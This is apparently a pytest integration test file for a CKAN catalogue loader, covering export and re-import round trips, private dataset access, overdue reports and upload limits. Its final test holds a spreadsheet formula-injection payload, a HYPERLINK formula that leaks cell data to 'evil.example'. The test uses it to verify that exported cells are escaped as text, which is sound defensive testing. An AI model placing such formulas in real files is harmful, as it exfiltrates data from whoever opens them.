"""Monthly refresh on the local catalogue: export and run back, results as the next batch."""

from __future__ import annotations

import csv

import openpyxl
import pytest
from click.testing import CliRunner
from freezegun import freeze_time

from integration.helpers import (
    REQUIRED,
    editor,
    finished_load,
    resources_of,
    sheet_rows,
    write_batch,
)
from loader.cli import main
from loader.client import Catalogue
from loader.export import export_batch
from loader.options import CheckOptions, Listeners, RunOptions
from loader.run import run_batch

pytestmark = pytest.mark.catalogue

GEOGRAPHIC = {
    **REQUIRED,
    "bcdc_type": "geographic",
    "format": "geojson",
    "spatial_datatype": "SDO_GEOMETRY",
    "projection_name": "epsg4326",
    "iso_topic_category": ["oceans", "biota"],  # the catalogue keeps its own order
    "temporal_extent": [{"beginning_date": "2024-01-01", "end_date": "2024-12-31"}],
    "preview_info": [{"preview_zoom_level": "6", "preview_latitude": 49.25, "layer_name": "x"}],
    "geographic_extent": [
        {
            "north_bound_latitude": 60,
            "south_bound_latitude": 48.3,
            "east_bound_longitude": -114.03,
            "west_bound_longitude": -139.06,
        }
    ],
    "json_table_schema": '{"fields": [{"name": "site"}]}',
    "last_modified": "2026-01-15T10:00:00",
}


def filled_package(make_package, admin, tmp_path) -> dict:
    """A private dataset holding a geographic link, a document with web-form text, an upload."""
    package = make_package(private=True)
    admin.action.resource_create(
        package_id=package["id"], name="Map", url="https://example.com/m", **GEOGRAPHIC
    )
    admin.action.resource_create(
        package_id=package["id"],
        name="Notes",
        url="https://example.com/n.pdf",
        description="Typed in the form:\r\nsecond line ",
        **{**REQUIRED, "format": "pdf"},
    )
    data = tmp_path / "table.csv"
    data.write_bytes(b"a,b\n1,2\n")
    with data.open("rb") as stream:
        table = admin.action.resource_create(
            package_id=package["id"], name="Table", upload=stream, **REQUIRED
        )
    finished_load(admin, table["id"])  # the DataStore's load writes into the resource
    return admin.action.package_show(id=package["id"])


def set_cell(path, row: int, column: str, value: str, sheet: str = "Batch") -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb[sheet]
    ws.cell(row=row, column=[c.value for c in ws[1]].index(column) + 1).value = value
    wb.save(path)


def test_export_runs_back_as_no_change_and_one_edit_changes_one_field(
    catalogue, make_package, tmp_path
):
    admin = catalogue.client("admin")
    package = filled_package(make_package, admin, tmp_path)
    path = tmp_path / "export.xlsx"

    exported = export_batch(editor(catalogue), path, packages=[package["name"]])
    result = run_batch(path, editor(catalogue))

    assert len(exported.rows) == 3
    assert result.problems == [] and result.exit_code == 0
    assert [o.action for o in result.outcomes] == ["no change"] * 3
    as_csv = export_batch(editor(catalogue), tmp_path / "export.csv", packages=[package["name"]])
    assert [o.action for o in run_batch(as_csv.path, editor(catalogue)).outcomes] == [
        "no change"
    ] * 3
    after = admin.action.package_show(id=package["id"])
    assert after["metadata_modified"] == package["metadata_modified"]

    set_cell(path, 2, "description", "Sites as mapped")
    result = run_batch(path, editor(catalogue))

    assert [o.action for o in result.outcomes] == [
        "patched resource 'Map': description: (empty) -> 'Sites as mapped'",
        "no change",
        "no change",
    ]
    changed = admin.action.package_show(id=package["id"])["resources"]
    ignore = {"metadata_modified"}
    for old, new in zip(package["resources"], changed, strict=True):
        differs = {k for k in {*old, *new} if old.get(k) != new.get(k)} - ignore
        assert differs == ({"description"} if old["name"] == "Map" else set()), old["name"]


def test_an_organization_export_needs_the_token_for_private_datasets(
    catalogue, make_package, tmp_path
):
    private = make_package(private=True)
    public = make_package()
    admin = catalogue.client("admin")
    for package in (private, public):
        admin.action.resource_create(
            package_id=package["id"], name="R", url="https://example.com/r", **REQUIRED
        )
    org = [catalogue.editor_organization]

    with_token = export_batch(editor(catalogue), tmp_path / "a.csv", organizations=org)
    without = export_batch(Catalogue(catalogue.url), tmp_path / "b.csv", organizations=org)

    assert {private["name"], public["name"]} <= {r["package"] for r in with_token.rows}
    names = {r["package"] for r in without.rows}
    assert public["name"] in names and private["name"] not in names


def test_a_result_workbook_runs_back_as_a_batch_by_id(catalogue, make_package, tmp_path):
    package = make_package()
    admin = catalogue.client("admin")
    admin.action.resource_create(
        package_id=package["id"], name="Old", url="https://example.com/o", **REQUIRED
    )
    batch = write_batch(
        tmp_path,
        {
            "op": "create",
            "package": package["name"],
            "name": "New",
            "url": "https://example.com/n",
            **REQUIRED,
        },
        {"op": "patch", "package": package["name"], "name": "Old", "description": "first"},
    )
    first = tmp_path / "first.xlsx"
    assert run_batch(batch, editor(catalogue), result_path=first).exit_code == 0

    again = CliRunner().invoke(
        main,
        ["run", str(first), "--sheet", "Results", "-o", str(tmp_path / "again.xlsx")],
        env={"CKAN_API_KEY": catalogue.editor_token, "CKAN_URL": catalogue.url},
    )
    assert again.exit_code == 0, again.output
    assert "2 rows (2 done)" in again.output
    assert [r["action"] for r in sheet_rows(tmp_path / "again.xlsx")] == ["no change"] * 2
    assert sorted(r["name"] for r in resources_of(catalogue, package["id"])) == ["New", "Old"]

    # the Results sheet (the outcome in its first columns) saved as CSV, as a spreadsheet
    # program saves it ("CSV UTF-8"), runs back the same: nothing changes
    modified = admin.action.package_show(id=package["id"])["metadata_modified"]
    saved = tmp_path / "first-results.csv"
    with saved.open("w", encoding="utf-8-sig", newline="") as f:
        for values in openpyxl.load_workbook(first)["Results"].iter_rows(values_only=True):
            csv.writer(f).writerow(["" if v is None else v for v in values])
    heading = saved.read_text(encoding="utf-8-sig").split("\n", 1)[0]
    assert heading.startswith("status,action,error,code,datastore,op,")
    from_csv = run_batch(saved, editor(catalogue))
    assert from_csv.exit_code == 0, [o.error for o in from_csv.outcomes]
    assert [o.action for o in from_csv.outcomes] == ["no change"] * 2
    assert admin.action.package_show(id=package["id"])["metadata_modified"] == modified

    set_cell(first, 2, "description", "now described", sheet="Results")
    set_cell(first, 3, "description", "second", sheet="Results")
    set_cell(first, 3, "name", "Old, renamed", sheet="Results")  # by id, a name renames
    result = run_batch(first, editor(catalogue), RunOptions(check=CheckOptions(sheet="Results")))

    assert result.exit_code == 0, [o.error for o in result.outcomes]
    assert [o.action.split(":")[0] for o in result.outcomes] == [
        "updated resource 'New'",
        "patched resource 'Old, renamed'",
    ]
    stored = {r["name"]: r for r in resources_of(catalogue, package["id"])}
    assert set(stored) == {"New", "Old, renamed"}
    assert stored["New"]["description"] == "now described"
    assert stored["Old, renamed"]["description"] == "second"


def test_the_due_report_with_a_frozen_clock(catalogue, make_package, tmp_path):
    package = make_package()
    admin = catalogue.client("admin")
    stamps = {
        "Monthly": ("monthly", "2026-01-15T10:00:00"),
        "Annual": ("annually", "2026-01-15T10:00:00"),
        "Whenever": ("asNeeded", "2020-01-01T00:00:00"),
    }
    made = {}
    for name, (cycle, stamp) in stamps.items():
        made[name] = admin.action.resource_create(
            package_id=package["id"],
            name=name,
            url="https://example.com/r",
            last_modified=stamp,
            **{**REQUIRED, "resource_update_cycle": cycle},
        )
    output = tmp_path / "due.xlsx"
    args = ["due", "--ckan", catalogue.url, "--package", package["name"], "-o", str(output)]
    env = {"CKAN_API_KEY": catalogue.editor_token}

    # tick=True: the clock moves on from the frozen moment, so HTTP timeouts still work
    with freeze_time("2026-02-10", tick=True):
        early = CliRunner().invoke(main, args, env=env, catch_exceptions=False)
    with freeze_time("2026-03-01", tick=True):
        late = CliRunner().invoke(main, args, env=env, catch_exceptions=False)

    assert early.exit_code == 0, early.output
    assert "Nothing is due." in early.output
    assert late.exit_code == 1, late.output
    assert "1 resource overdue." in late.output
    assert f"   14  2026-02-15  monthly      {package['name']}" in late.output
    rows = sheet_rows(output, "Batch")
    assert [(r["op"], r["resource_id"], r["name"], r["upload"]) for r in rows] == [
        ("patch", made["Monthly"]["id"], "Monthly", None)
    ]
    assert (rows[0]["due_date"], rows[0]["days_overdue"]) == ("2026-02-15", 14)


def test_upload_bytes_are_heard_as_they_go_and_a_file_over_the_limit_writes_nothing(
    catalogue, make_package, tmp_path
):
    package = make_package()
    (tmp_path / "big.csv").write_bytes(b"x,y\n" * (3 << 18))  # 3 MB
    batch = write_batch(
        tmp_path,
        {
            "op": "create",
            "package": package["name"],
            "name": "Big",
            "upload": "big.csv",
            **REQUIRED,
        },
    )
    heard: list[int] = []

    refused = run_batch(
        batch, editor(catalogue), RunOptions(check=CheckOptions(max_file_size=2 << 20))
    )
    assert refused.exit_code == 2 and refused.outcomes[0].code == "upload-too-large"
    assert resources_of(catalogue, package["id"]) == []

    result = run_batch(batch, editor(catalogue), listeners=Listeners(on_bytes=heard.append))

    assert result.exit_code == 0, result.outcomes[0].error
    assert len(heard) > 10  # in pieces as the file streams, not once at the end
    assert 3 << 20 <= sum(heard) < (3 << 20) + 10_000  # the file and the form around it


def test_export_from_the_command_line_needs_no_token_for_public_datasets(
    catalogue, make_package, tmp_path
):
    package = make_package()
    catalogue.client("admin").action.resource_create(
        package_id=package["id"], name="R", url="https://example.com/r", **REQUIRED
    )
    output = tmp_path / "export.csv"
    args = ["export", "--ckan", catalogue.url, "--package", package["name"], "-o", str(output)]

    done = CliRunner().invoke(main, args, env={"CKAN_API_KEY": ""})
    missing = CliRunner().invoke(main, [*args[:3], "--package", "no-such-dataset"])

    assert done.exit_code == 0, done.output
    assert done.output.startswith("Exported 1 resource of 1 dataset")
    text = output.read_text(encoding="utf-8-sig").splitlines()
    assert text[0].startswith("op,package,organization,resource_id,name,upload,url")
    assert text[1].startswith(f"patch,{package['name']},{catalogue.editor_organization},")
    assert missing.exit_code == 2
    assert "dataset 'no-such-dataset' was not found" in missing.output


def test_formula_like_text_exported_to_csv_runs_back_as_no_change(
    catalogue, make_package, tmp_path
):
    admin = catalogue.client("admin")
    package = make_package()
    hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Details")'
    admin.action.resource_create(
        package_id=package["id"],
        name="@SUM(1+1)",
        url="https://example.com/m",
        description=hostile,
        **GEOGRAPHIC,
    )
    package = admin.action.package_show(id=package["id"])
    path = tmp_path / "export.csv"

    export_batch(editor(catalogue), path, packages=[package["name"]])
    with path.open(encoding="utf-8-sig", newline="") as text:
        heading, row = list(csv.reader(text))
    cells = dict(zip(heading, row, strict=True))
    # a spreadsheet opening the file shows these as text and runs nothing
    assert cells["description"] == "'" + hostile and cells["name"] == "'@SUM(1+1)"
    assert cells["geographic_extent.west_bound_longitude"] == "-139.06"  # still a number
    result = run_batch(path, editor(catalogue))

    assert result.problems == [] and [o.action for o in result.outcomes] == ["no change"]
    after = admin.action.package_show(id=package["id"])
    assert after["metadata_modified"] == package["metadata_modified"]

    # an editor changes another cell and saves, the apostrophes as they were
    cells["resource_update_cycle"] = "weekly"
    with path.open("w", encoding="utf-8-sig", newline="") as text:
        csv.writer(text).writerows([heading, [cells[h] for h in heading]])
    result = run_batch(path, editor(catalogue))

    assert [o.action for o in result.outcomes] == [
        "patched resource '@SUM(1+1)': resource_update_cycle: 'monthly' -> 'weekly'"
    ]
    (saved,) = admin.action.package_show(id=package["id"])["resources"]
    assert (saved["description"], saved["name"]) == (hostile, "@SUM(1+1)")
    assert saved["resource_update_cycle"] == "weekly"
